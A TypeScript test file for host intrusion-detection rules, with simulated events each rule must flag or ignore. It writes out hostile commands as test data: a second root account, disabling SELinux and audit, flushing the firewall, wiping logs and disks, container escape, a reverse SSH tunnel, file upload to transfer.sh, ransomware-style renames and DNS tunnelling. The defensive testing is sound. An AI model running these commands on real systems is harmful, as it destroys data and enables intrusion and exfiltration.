import { exeFlag } from "../../../events.gen.ts";
import type { Case, Fields, Story } from "./story.ts";

const stranger = [2, Uint8Array.of(203, 0, 113, 9), 51000];
const container = 4026532500;

/** One command that must be found, others that must not. */
function command(rule: string, as: string, line: string, ...others: readonly string[]): Case {
  return {
    rule,
    as,
    finds: (s) => s.runs(9, words(line)),
    ignores: (s) => others.reduce((story, other, i) => story.runs(20 + i, words(other)), s),
  };
}

function words(line: string): string[] {
  return line.split(" ");
}

function times(story: Story, count: number, each: (story: Story, i: number) => Story): Story {
  for (let i = 0; i < count; i++) each(story, i);
  return story;
}

function mount(fields: Fields): (story: Story) => Story {
  return (s) => s.runs(9, ["/bin/mount"]).does(9, "fs.mount", { ret: 0, call: "mount", ...fields });
}

function connect(program: string, remote: Fields["remote"], ret = 0): (story: Story) => Story {
  return (s) => s.runs(9, [program]).does(9, "net.connect", { remote: remote ?? null, ret });
}

/** A DNS message with one question. type: 1 = A, 16 = TXT. rcode: 3 = NXDOMAIN. */
function dns(name: string, type: number, rcode: number | null): Uint8Array {
  const labels = name.split(".").flatMap((label) => [label.length, ...Buffer.from(label)]);
  const flags = rcode === null ? [0x01, 0] : [0x81, 0x80 | rcode];
  return Uint8Array.of(0, 1, ...flags, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, type, 0, 1);
}

/** The same for the same number, and unlike any word. */
function random(seed: number, length: number): string {
  return new Bun.CryptoHasher("sha256").update(String(seed)).digest("hex").slice(0, length);
}

function asks(count: number, message: (i: number) => Uint8Array): (story: Story) => Story {
  return (s) =>
    times(s.runs(9, ["/usr/bin/x"]), count, (t, i) =>
      t.does(9, "net.dns", { message: message(i) }),
    );
}

export const systemCases: readonly Case[] = [
  {
    rule: "escalation",
    as: "critical",
    about: "user 1000 → 0",
    finds: (s) =>
      s.runs(9, ["/home/u/x"]).does(9, "cred.escalation", { old_uid: 1000, new_uid: 0 }),
    ignores: (s) =>
      s.runs(9, ["/usr/bin/sudo"]).does(9, "cred.change", { old_uid: 1000, new_uid: 0 }),
  },
  {
    rule: "became-root",
    as: "high",
    about: "/home/u/x",
    finds: (s) =>
      s
        .runs(9, ["/home/u/x"])
        .does(9, "cred.change", {
          old_uid: 1000,
          old_euid: 1000,
          old_suid: 1000,
          new_uid: 0,
          new_euid: 0,
        })
        .runs(9, ["/bin/sh"]),
    ignores: (s) =>
      s
        .runs(9, ["/bin/bash"])
        .does(9, "cred.change", {
          old_uid: 1000,
          old_euid: 1000,
          old_suid: 1000,
          new_uid: 1000,
          new_euid: 0,
        })
        .runs(9, ["/usr/bin/sudo"], { exe_flags: exeFlag.setuid })
        .does(9, "cred.change", {
          old_uid: 1000,
          old_euid: 0,
          old_suid: 0,
          new_uid: 0,
          new_euid: 0,
        })
        .runs(9, ["/usr/bin/id"])
        .runs(10, ["/usr/sbin/sshd"])
        .does(10, "cred.change", { old_uid: 0, old_euid: 1000, new_uid: 0, new_euid: 0 })
        .does(10, "process.exit"),
  },
  {
    rule: "setuid-bit",
    as: "high",
    about: "/home/u/sh",
    finds: (s) =>
      s
        .runs(9, ["/bin/chmod"])
        .does(9, "file.chmod", { path: "/home/u/sh", mode: 0o4755, old_mode: 0o100755, ret: 0 }),
    ignores: (s) =>
      s
        .runs(9, ["/bin/chmod"])
        .does(9, "file.chmod", { path: "/srv/git", mode: 0o2775, old_mode: 0o040755, ret: 0 })
        .does(9, "file.chmod", { path: "/home/u/sh", mode: 0o4755, old_mode: 0o100755, ret: -1 })
        .does(9, "file.chmod", { path: "/usr/bin/sudo", mode: 0o4755, old_mode: 0o104755, ret: 0 })
        .does(9, "file.chmod", { path: "/home/u/x", mode: 0o755, old_mode: 0o100644, ret: 0 }),
    low: (s) =>
      s
        .was(5, "/usr/bin/dpkg")
        .runs(9, ["/bin/chmod"], { ppid: 5 })
        .does(9, "file.chmod", { path: "/usr/bin/x", mode: 0o4755, ret: 0 }),
  },
  command(
    "set-capabilities",
    "high",
    "/usr/sbin/setcap cap_setuid+ep /home/u/x",
    "/usr/sbin/setcap -r /home/u/x",
    "/usr/sbin/getcap /home/u/x",
  ),
  {
    rule: "world-writable",
    as: "medium",
    about: "/etc/passwd",
    finds: (s) =>
      s.runs(9, ["/bin/chmod"]).does(9, "file.chmod", { path: "/etc/passwd", mode: 0o666, ret: 0 }),
    ignores: (s) =>
      s
        .runs(9, ["/bin/chmod"])
        .does(9, "file.chmod", { path: "/usr/share/x", mode: 0o1777, ret: 0 })
        .does(9, "file.chmod", { path: "/home/u/x", mode: 0o666, ret: 0 }),
  },
  {
    rule: "made-executable",
    as: "low",
    finds: (s) =>
      s
        .runs(9, ["/bin/chmod"])
        .does(9, "file.chmod", { path: "/tmp/x", mode: 0o755, old_mode: 0o100644, ret: 0 }),
    ignores: (s) =>
      s
        .runs(9, ["/bin/chmod"])
        .does(9, "file.chmod", { path: "/tmp/d", mode: 0o755, old_mode: 0o040700, ret: 0 })
        .does(9, "file.chmod", { path: "/tmp/x", mode: 0o600, ret: 0 }),
  },
  {
    rule: "give-away",
    as: "high",
    finds: (s) =>
      s
        .runs(9, ["/bin/chown"])
        .does(9, "file.chown", { path: "/etc/shadow", new_uid: 1000, ret: 0 }),
    ignores: (s) =>
      s
        .runs(9, ["/bin/chown"])
        .does(9, "file.chown", { path: "/etc/shadow", new_uid: 0, ret: 0 })
        .does(9, "file.chown", { path: "/etc/shadow", new_uid: null, ret: 0 }),
  },
  command(
    "second-root",
    "critical",
    "/usr/sbin/useradd -o -u 0 toor",
    "/usr/sbin/useradd -u 1001 u",
    "/usr/bin/id -u 0",
  ),
  command(
    "new-administrator",
    "high",
    "/usr/sbin/usermod -aG sudo u",
    "/usr/sbin/usermod -aG audio u",
    "/usr/sbin/usermod -L sudo",
    "/usr/bin/groups sudo",
  ),
  {
    ...command(
      "new-user",
      "medium",
      "/usr/sbin/useradd -m u",
      "/usr/sbin/userdel u",
      "/usr/sbin/useradd",
    ),
    low: (s) => s.was(5, "/usr/bin/dpkg").runs(9, ["/usr/sbin/useradd", "-r", "_x"], { ppid: 5 }),
  },
  command(
    "setuid-search",
    "medium",
    "/usr/bin/find / -perm -4000 -type f",
    "/usr/bin/find / -perm 644",
    "/usr/sbin/getcap /bin/ping",
  ),
  {
    rule: "user-namespace",
    as: "low",
    finds: (s) =>
      s.runs(9, ["/home/u/x"]).does(9, "process.namespace", {
        uid: 1000,
        call: "unshare",
        namespaces: 0x10000000,
        ret: 0,
      }),
    ignores: (s) =>
      s
        .runs(9, ["/usr/bin/bwrap"])
        .does(9, "process.namespace", { uid: 1000, call: "clone", namespaces: 0x10000000, ret: 5 })
        .runs(10, ["/usr/bin/unshare"])
        .does(10, "process.namespace", { uid: 0, call: "unshare", namespaces: 0x10000000, ret: 0 })
        .does(10, "process.namespace", { uid: 1000, call: "unshare", namespaces: 0x20000, ret: 0 }),
  },
  {
    rule: "ptrace-write",
    as: "high",
    about: "victim",
    finds: (s) =>
      s
        .was(7, "/usr/bin/victim")
        .runs(9, ["/home/u/x"])
        .does(9, "process.ptrace", { request: 4, target: 7, ret: 0 }),
    ignores: (s) =>
      s
        .was(7, "/usr/bin/victim")
        .runs(9, ["/home/u/x"])
        .does(9, "process.ptrace", { request: 4, target: 7, ret: -3 })
        .does(9, "process.ptrace", { request: 16, target: 7, ret: 0 }),
    low: (s) =>
      s.runs(9, ["/usr/bin/gdb"]).does(9, "process.ptrace", { request: 4, target: 7, ret: 0 }),
  },
  {
    rule: "ptrace-attach",
    as: "high",
    about: "sshd",
    finds: (s) =>
      s
        .was(7, "/usr/sbin/sshd")
        .runs(9, ["/home/u/x"])
        .does(9, "process.ptrace", { request: 16, target: 7, ret: 0 }),
    ignores: (s) =>
      s
        .runs(9, ["/home/u/x"])
        .does(9, "process.ptrace", { request: 0x4206, target: 7, ret: -1 })
        .does(9, "process.ptrace", { request: 0, ret: 0 }),
    low: (s) =>
      s
        .runs(9, ["/usr/bin/strace"])
        .does(9, "process.ptrace", { request: 0x4206, target: 7, ret: 0 }),
  },
  {
    rule: "trace-secret-keeper",
    as: "high",
    about: "sshd",
    finds: (s) =>
      s
        .was(7, "/usr/sbin/sshd")
        .runs(9, ["/usr/bin/strace"])
        .does(9, "process.ptrace", { request: 0x4206, target: 7, ret: 0 }),
    ignores: (s) =>
      s
        .was(7, "/usr/bin/make")
        .runs(9, ["/usr/bin/strace"])
        .does(9, "process.ptrace", { request: 0x4206, target: 7, ret: 0 }),
  },
  {
    rule: "anti-debug",
    as: "low",
    finds: (s) => s.runs(9, ["/home/u/x"]).does(9, "process.ptrace", { request: 0, ret: 0 }),
    ignores: (s) =>
      s
        .was(5, "/usr/bin/gdb")
        .runs(9, ["/bin/bash"], { ppid: 5 })
        .does(9, "process.ptrace", { request: 0, ret: 0 }),
  },
  {
    rule: "memory-write",
    as: "high",
    about: "victim",
    finds: (s) =>
      s
        .was(7, "/usr/bin/victim")
        .runs(9, ["/home/u/x"])
        .does(9, "process.vm_write", { target: 7, ret: 8 }),
    ignores: (s) =>
      s
        .runs(9, ["/home/u/x"])
        .does(9, "process.vm_write", { target: 9, ret: 8 })
        .does(9, "process.vm_write", { target: 7, ret: -1 }),
    low: (s) =>
      s
        .was(7, "/opt/mpi/rank")
        .runs(9, ["/opt/mpi/rank"])
        .does(9, "process.vm_write", { target: 7, ret: 8 }),
  },
  {
    rule: "memfd-by-script",
    as: "medium",
    finds: (s) => s.runs(9, ["/usr/bin/python3.11"]).does(9, "process.memfd", { name: "", ret: 3 }),
    ignores: (s) =>
      s
        .runs(9, ["/usr/bin/firefox"])
        .does(9, "process.memfd", { name: "x", ret: 3 })
        .runs(10, ["/usr/bin/python3"])
        .does(10, "process.memfd", { name: "x", ret: -22 }),
  },
  {
    rule: "code-made-writable",
    as: "medium",
    finds: (s) =>
      s.runs(9, ["/home/u/x"]).does(9, "mem.wx", { path: "/usr/lib/libc.so.6", ret: 0 }),
    ignores: (s) =>
      s
        .runs(9, ["/home/u/x"])
        .does(9, "mem.wx", { path: null, ret: 0 })
        .does(9, "mem.wx", { path: "/memfd:jit", ret: 0 }),
  },
  {
    rule: "kill-watcher",
    as: "high",
    about: "/sbin/auditd",
    finds: (s) =>
      s
        .was(7, "/sbin/auditd")
        .runs(9, ["/bin/bash"])
        .does(9, "process.signal", { signal: 9, target: 7, ret: 0 }),
    ignores: (s) =>
      s
        .was(7, "/sbin/auditd")
        .was(8, "/usr/bin/vi")
        .runs(9, ["/bin/bash"])
        .does(9, "process.signal", { signal: 9, target: 8, ret: 0 })
        .does(9, "process.signal", { signal: 1, target: 7, ret: 0 })
        .does(9, "process.signal", { signal: 15, target: 7, ret: -1 }),
    low: (s) =>
      s
        .was(7, "/usr/sbin/rsyslogd")
        .was(1, "/usr/lib/systemd/systemd")
        .does(1, "process.signal", { signal: 15, target: 7, ret: 0 }),
  },
  {
    rule: "rootkit-signal",
    as: "medium",
    finds: (s) =>
      s.runs(9, ["/bin/bash"]).does(9, "process.signal", { signal: 64, target: 0, ret: 0 }),
    ignores: (s) =>
      s
        .runs(9, ["/bin/bash"])
        .does(9, "process.signal", { signal: 9, target: 5 })
        .runs(10, ["/usr/bin/qemu"])
        .does(10, "process.signal", { signal: 64, target: 5 }),
  },
  command(
    "guard-stopped",
    "high",
    "/usr/bin/systemctl stop auditd.service",
    "/usr/bin/systemctl stop nginx",
    "/usr/bin/systemctl status auditd",
  ),
  command(
    "guard-disarmed",
    "high",
    "/usr/sbin/setenforce 0",
    "/usr/sbin/setenforce 1",
    "/usr/sbin/auditctl -l",
    "/usr/sbin/sysctl kernel.kptr_restrict",
  ),
  command(
    "firewall-opened",
    "medium",
    "/usr/sbin/iptables -F",
    "/usr/sbin/iptables -F DOCKER",
    "/usr/sbin/nft list ruleset",
    "/usr/sbin/ufw status",
  ),
  command(
    "time-changed-back",
    "medium",
    "/usr/bin/touch -r /bin/ls /bin/x",
    "/usr/bin/touch -r a b",
    "/usr/bin/touch /etc/x",
  ),
  command(
    "made-immutable",
    "medium",
    "/usr/bin/chattr +i /etc/cron.d/x",
    "/usr/bin/chattr -i /etc/x",
    "/usr/bin/chattr +C /var/lib/x",
  ),
  command(
    "service-log-off",
    "high",
    "/usr/bin/truncate -s 0 /var/log/wtmp",
    "/usr/bin/truncate -s 0 /home/u/x",
    "/usr/bin/journalctl -f",
  ),
  command(
    "history-off",
    "medium",
    "/bin/bash -c unset HISTFILE",
    "/bin/bash -c HISTSIZE=1000",
    "/bin/bash -c history",
  ),
  {
    rule: "helper-unusual",
    as: "critical",
    about: "/tmp/x",
    finds: (s) => s.does(2, "process.usermodehelper", { path: "/tmp/x", argv: ["/tmp/x"] }),
    ignores: (s) =>
      s
        .does(2, "process.usermodehelper", { path: "/sbin/modprobe" })
        .runs(9, ["/tmp/x"])
        .was(10, null, { ppid: 2 })
        .runs(11, ["/usr/lib/systemd/systemd-coredump"], { ppid: 10 }),
  },
  {
    rule: "helper-unusual",
    as: "critical",
    about: "/var/lib/docker/overlay2/x/cmd",
    finds: (s) =>
      s.was(10, null, { ppid: 2 }).runs(11, ["/var/lib/docker/overlay2/x/cmd"], { ppid: 10 }),
    ignores: (s) => s.was(10, null, { ppid: 1 }).runs(11, ["/var/lib/x"], { ppid: 10 }),
  },
  {
    rule: "mount-cgroup",
    as: "high",
    finds: mount({ fs_type: "cgroup", target: "/tmp/cg", pidns: container }),
    ignores: (s) =>
      mount({ fs_type: "cgroup", target: "/sys/fs/cgroup" })(
        mount({ fs_type: "tmpfs", target: "/tmp/cg", pidns: container })(s),
      ),
  },
  {
    rule: "mount-host-disk",
    as: "high",
    about: "/dev/sda1",
    finds: mount({ source: "/dev/sda1", target: "/mnt", pidns: container }),
    ignores: (s) =>
      mount({ source: "/dev/sda1", target: "/mnt" })(
        mount({ source: "/dev/sda1", target: "/mnt", pidns: container, ret: -1 })(s),
      ),
  },
  {
    rule: "mount-over-process",
    as: "high",
    finds: mount({ source: "/tmp/empty", target: "/proc/77", mount_flags: 4096 }),
    ignores: (s) =>
      mount({ source: "proc", target: "/proc" })(mount({ target: "/proc/sys/fs/binfmt_misc" })(s)),
  },
  {
    rule: "mount-over-system",
    as: "high",
    about: "/etc/passwd",
    finds: mount({ source: "/tmp/p", target: "/etc/passwd", mount_flags: 4096 }),
    ignores: (s) =>
      mount({ source: "/srv/a", target: "/srv/b", mount_flags: 4096 })(
        mount({ source: "/p", target: "/etc/passwd", mount_flags: 4096, pidns: container })(s),
      ),
    low: (s) =>
      s
        .runs(9, ["/usr/bin/runc"])
        .does(9, "fs.mount", { target: "/etc/hosts", mount_flags: 4096, ret: 0, call: "mount" }),
  },
  command(
    "enter-host",
    "high",
    "/usr/bin/nsenter -t 1 -m -p sh",
    "/usr/bin/nsenter -t 12 -n ip a",
    "/usr/bin/nsenter --help",
  ),
  {
    rule: "enter-namespace",
    as: "high",
    finds: (s) =>
      s.runs(9, ["/home/u/x"]).does(9, "process.namespace", {
        call: "setns",
        namespaces: 0x20000,
        ret: 0,
        pidns: container,
      }),
    ignores: (s) =>
      s
        .runs(9, ["/usr/bin/runc"])
        .does(9, "process.namespace", { call: "setns", ret: 0 })
        .runs(10, ["/usr/sbin/ip"])
        .does(10, "process.namespace", { call: "setns", namespaces: 0x40000000, ret: 0 })
        .does(10, "process.namespace", { call: "setns", namespaces: null, ret: -1 }),
  },
  command(
    "privileged-container",
    "medium",
    "/usr/bin/docker run --privileged -it x",
    "/usr/bin/docker run -it x",
    "/usr/bin/docker exec --privileged x sh",
  ),
  {
    rule: "runtime-socket",
    as: "medium",
    about: "/run/docker.sock",
    finds: (s) =>
      s.runs(9, ["/usr/bin/curl"]).does(9, "net.connect", { path: "/run/docker.sock", ret: 0 }),
    ignores: (s) =>
      s
        .runs(9, ["/usr/bin/docker"])
        .does(9, "net.connect", { path: "/run/docker.sock", ret: 0 })
        .runs(10, ["/usr/bin/curl"])
        .does(10, "net.connect", { path: "/run/x.sock", ret: 0 }),
  },
  {
    rule: "module-unusual",
    as: "high",
    about: "/tmp/rk.ko",
    finds: (s) =>
      s
        .runs(9, ["/sbin/insmod"])
        .does(9, "kernel.module_load", { name: "rk", path: "/tmp/rk.ko", call: "finit_module" }),
    ignores: (s) =>
      s
        .runs(9, ["/sbin/modprobe"])
        .does(9, "kernel.module_load", {
          name: "x",
          path: "/usr/lib/modules/6.1/x.ko",
          call: "finit_module",
        })
        .does(9, "kernel.module_load", { name: "y", path: null, call: "init_module" }),
  },
  {
    rule: "module-unsigned",
    as: "medium",
    about: "x",
    finds: (s) =>
      s.runs(9, ["/sbin/modprobe"]).does(9, "kernel.module_load", { name: "x", taints: 0x3000 }),
    ignores: (s) =>
      s.runs(9, ["/sbin/modprobe"]).does(9, "kernel.module_load", { name: "x", taints: 0x1000 }),
  },
  {
    rule: "module-from-container",
    as: "critical",
    finds: (s) =>
      s.runs(9, ["/sbin/insmod"]).does(9, "kernel.module_load", { name: "x", pidns: container }),
    ignores: (s) =>
      s.runs(9, ["/sbin/insmod"]).does(9, "kernel.module_load", { name: "x", pidns: 0 }),
  },
  {
    rule: "module-refused",
    as: "medium",
    finds: (s) =>
      s.runs(9, ["/sbin/insmod"]).does(9, "kernel.module_load_failed", {
        path: "/tmp/x.ko",
        call: "finit_module",
        ret: -129,
      }),
    ignores: (s) =>
      s
        .runs(9, ["/sbin/modprobe"])
        .does(9, "kernel.module_load_failed", { path: "/lib/modules/x.ko", ret: -17 }),
  },
  command(
    "module-tool",
    "medium",
    "/usr/sbin/insmod /tmp/x.ko",
    "/usr/sbin/modprobe x",
    "/usr/sbin/lsmod",
  ),
  {
    rule: "bpf-unusual",
    as: "high",
    about: "hide",
    finds: (s) =>
      s.runs(9, ["/tmp/x"]).does(9, "kernel.bpf_load", { prog_type: 2, name: "hide", ret: 4 }),
    ignores: (s) =>
      s
        .runs(9, ["/usr/bin/bpftrace"])
        .does(9, "kernel.bpf_load", { prog_type: 2, ret: 4 })
        .runs(10, ["/opt/x"])
        .does(10, "kernel.bpf_load", { prog_type: 8, ret: 4 })
        .does(10, "kernel.bpf_load", { prog_type: 2, ret: -1 }),
  },
  {
    rule: "bpf-refused",
    as: "low",
    finds: (s) =>
      s.runs(9, ["/home/u/x"]).does(9, "kernel.bpf_load", { prog_type: 1, uid: 1000, ret: -1 }),
    ignores: (s) =>
      s.runs(9, ["/home/u/x"]).does(9, "kernel.bpf_load", { prog_type: 1, uid: 0, ret: -1 }),
  },
  {
    rule: "cloud-metadata",
    as: "medium",
    about: "169.254.169.254:80",
    finds: connect("/usr/bin/curl", [2, Uint8Array.of(169, 254, 169, 254), 80]),
    ignores: (s) =>
      connect("/usr/bin/curl", [2, Uint8Array.of(169, 254, 169, 253), 80])(
        connect("/usr/bin/cloud-init", [2, Uint8Array.of(169, 254, 169, 254), 80])(s),
      ).does(9, "net.connect", { remote: [2, Uint8Array.of(169, 254, 169, 254), 53] }),
  },
  {
    rule: "cloud-metadata",
    as: "medium",
    finds: connect("/usr/bin/curl", [
      10,
      Uint8Array.of(0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 255, 255, 169, 254, 169, 254),
      80,
    ]),
    ignores: connect("/usr/bin/curl", [
      10,
      Uint8Array.of(0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 169, 254, 169, 254),
      80,
    ]),
  },
  {
    rule: "listen-everywhere",
    as: "high",
    finds: (s) =>
      s.runs(9, ["/tmp/x"], { start: 2e12 }).does(9, "net.listen", {
        start: 2e12,
        local: [2, Uint8Array.of(0, 0, 0, 0), 4444],
        ret: 0,
      }),
    ignores: (s) =>
      s
        .runs(9, ["/tmp/x"], { start: 2e12 })
        .does(9, "net.listen", {
          start: 2e12,
          local: [2, Uint8Array.of(127, 0, 0, 1), 4444],
          ret: 0,
        })
        .was(10, "/usr/bin/x")
        .does(10, "net.listen", { local: [2, Uint8Array.of(0, 0, 0, 0), 1], ret: 0 }),
    low: (s) =>
      s
        .runs(9, ["/usr/sbin/nginx"], { start: 2e12 })
        .does(9, "net.listen", { start: 2e12, local: [10, new Uint8Array(16), 80], ret: 0 }),
  },
  {
    rule: "temporary-connects",
    as: "high",
    about: "203.0.113.9:51000",
    finds: connect("/tmp/x", stranger, -115),
    ignores: (s) =>
      connect("/usr/bin/x", stranger)(connect("/tmp/x", [2, Uint8Array.of(127, 0, 0, 1), 80])(s)),
  },
  {
    rule: "mute-program-connects",
    as: "high",
    finds: connect("/usr/bin/cat", stranger),
    ignores: (s) => connect("/usr/bin/ssh", stranger)(connect("/usr/bin/cat", [1, "/run/x", 0])(s)),
  },
  {
    rule: "mining-pool",
    as: "low",
    finds: connect("/usr/bin/x", [2, Uint8Array.of(203, 0, 113, 9), 3333]),
    ignores: (s) =>
      connect("/usr/bin/x", [2, Uint8Array.of(10, 0, 0, 1), 3333])(
        connect("/usr/bin/x", stranger)(s),
      ),
  },
  command(
    "mining-command",
    "high",
    "/opt/x -o stratum+tcp://pool.example:3333",
    "/opt/x -o https://example.org",
    "/usr/bin/man strata",
  ),
  {
    rule: "tor",
    as: "medium",
    finds: connect("/usr/bin/curl", [2, Uint8Array.of(127, 0, 0, 1), 9050]),
    ignores: (s) =>
      connect("/usr/bin/curl", [2, Uint8Array.of(127, 0, 0, 1), 9000])(s).runs(30, [
        "/usr/bin/torch",
      ]),
  },
  {
    rule: "scan",
    as: "medium",
    finds: (s) =>
      times(s.runs(9, ["/usr/bin/x"]), 100, (t, i) =>
        t.does(9, "net.connect", { remote: [2, Uint8Array.of(10, 0, 0, i), 22], ret: -111 }),
      ),
    ignores: (s) =>
      times(s.runs(9, ["/usr/bin/x"]), 300, (t, i) =>
        t.does(9, "net.connect", { remote: [2, Uint8Array.of(10, 0, 0, i % 99), 22], ret: 0 }),
      ),
  },
  {
    rule: "password-guessing",
    as: "medium",
    finds: (s) =>
      times(s.runs(9, ["/usr/sbin/sshd"]), 30, (t) =>
        t.does(9, "net.accept", {
          remote: stranger,
          local: [2, Uint8Array.of(192, 0, 2, 1), 22],
          ret: 5,
        }),
      ),
    ignores: (s) =>
      times(s.runs(9, ["/usr/sbin/nginx"]), 60, (t, i) =>
        t.does(9, "net.accept", {
          remote: stranger,
          local: [2, Uint8Array.of(192, 0, 2, 1), i < 29 ? 22 : 443],
          ret: 5,
        }),
      ),
  },
  command(
    "tunnel",
    "medium",
    "/usr/bin/ssh -N -R 2222:localhost:22 u@h",
    "/usr/bin/ssh u@h",
    "/usr/bin/scp -r a h:b",
  ),
  command(
    "upload",
    "medium",
    "/usr/bin/curl -T x https://transfer.sh/x",
    "/usr/bin/curl https://example.org/transfer",
  ),
  command("sniffing", "low", "/usr/sbin/tcpdump -i any", "/usr/bin/dump -i"),
  {
    rule: "name-server-unusual",
    as: "low",
    finds: connect("/tmp/x", [2, Uint8Array.of(203, 0, 113, 9), 53]),
    ignores: connect("/usr/bin/dig", [2, Uint8Array.of(203, 0, 113, 9), 53]),
  },
  {
    rule: "abstract-listener",
    as: "low",
    finds: (s) => s.runs(9, ["/tmp/x"]).does(9, "net.bind", { path: "@x", ret: 0 }),
    ignores: (s) => s.runs(9, ["/usr/bin/x"]).does(9, "net.bind", { path: "@x", ret: 0 }),
  },
  {
    ...command(
      "password-in-command",
      "low",
      "/usr/bin/sshpass -p secret ssh h",
      "/usr/bin/mysql -p",
      "/usr/bin/curl -u name https://x",
    ),
    about: "sshpass",
  },
  command("memory-dump-tool", "medium", "/usr/bin/gcore 77", "/usr/bin/gdb -p 77"),
  {
    rule: "mass-rename",
    as: "critical",
    about: "*.locked",
    finds: (s) =>
      times(s.runs(9, ["/home/u/x"]), 50, (t, i) =>
        t.does(9, "file.rename", {
          old_path: `/home/u/${i}.doc`,
          new_path: `/home/u/${i}.doc.locked`,
          ret: 0,
        }),
      ),
    ignores: (s) =>
      times(s.runs(9, ["/home/u/x"]), 200, (t, i) =>
        t.does(9, "file.rename", {
          old_path: `/home/u/${i}.tmp`,
          new_path: `/home/u/${i}`,
          ret: 0,
        }),
      ),
    low: (s) =>
      times(s.was(5, "/usr/bin/dpkg"), 50, (t, i) =>
        t.does(5, "file.rename", { old_path: `/etc/${i}`, new_path: `/etc/${i}.dpkg-old`, ret: 0 }),
      ),
  },
  {
    rule: "mass-remove",
    as: "medium",
    finds: (s) =>
      times(s.runs(9, ["/home/u/x"]), 500, (t, i) =>
        t.does(9, "file.unlink", { path: `/home/u/${i}`, ret: 0 }),
      ),
    ignores: (s) =>
      times(s.runs(9, ["/home/u/x"]), 499, (t, i) =>
        t.does(9, "file.unlink", { path: `/home/u/${i}`, ret: 0 }),
      ),
    low: (s) =>
      times(s.runs(9, ["/usr/bin/rm"]), 500, (t, i) =>
        t.does(9, "file.unlink", { path: `/home/u/${i}`, ret: 0 }),
      ),
  },
  {
    rule: "ransom-note",
    as: "critical",
    finds: (s) =>
      times(s.runs(9, ["/home/u/x"]), 10, (t, i) =>
        t.does(9, "file.create", { path: `/home/u/${i}/HOW_TO_DECRYPT.txt`, ret: 3 }),
      ),
    ignores: (s) =>
      times(s.runs(9, ["/usr/bin/tar"]), 20, (t, i) =>
        t.does(9, "file.create", { path: `/home/u/${i}/README.txt`, ret: 3 }),
      ),
  },
  command(
    "disk-overwritten",
    "high",
    "/usr/bin/dd if=/dev/zero of=/dev/sda bs=1M",
    "/usr/bin/dd if=/dev/sda of=/home/u/x",
    "/usr/bin/shred /home/u/x",
  ),
  command(
    "wipe-command",
    "high",
    "/usr/bin/rm -rf /var",
    "/usr/bin/rm -rf /var/cache/x",
    "/usr/bin/rm /etc",
  ),
  {
    rule: "mass-kill",
    as: "medium",
    finds: (s) =>
      times(s.runs(9, ["/home/u/x"]), 20, (t, i) =>
        t.does(9, "process.signal", { signal: 9, target: 100 + i, ret: 0 }),
      ),
    ignores: (s) =>
      times(s.runs(9, ["/home/u/x"]), 100, (t, i) =>
        t.does(9, "process.signal", {
          signal: i % 2 === 0 ? 9 : 15,
          target: 100 + (i % 19),
          ret: 0,
        }),
      ),
  },
  command(
    "backup-removed",
    "medium",
    "/usr/sbin/zfs destroy pool/home@daily",
    "/usr/sbin/zfs list",
  ),
  {
    rule: "dns-random-names",
    as: "high",
    finds: asks(40, (i) => dns(`${random(i, 16)}.com`, 1, 3)),
    // Words that do not exist, and random ones that do
    ignores: (s) =>
      asks(40, (i) => dns(`${random(i, 16)}.com`, 1, 0))(
        asks(40, (i) => dns(`printer-${i}-office.local`, 1, 3))(s),
      ),
  },
  {
    rule: "dns-tunnel",
    as: "high",
    about: "example.org",
    finds: asks(40, (i) => dns(`${random(i, 40)}.t.example.org`, 16, null)),
    ignores: (s) =>
      asks(40, (i) => dns(`${random(i, 40)}.example${i}.org`, 16, null))(
        asks(24, (i) => dns(`${random(i, 40)}.example.net`, 1, null))(s),
      ),
  },
];
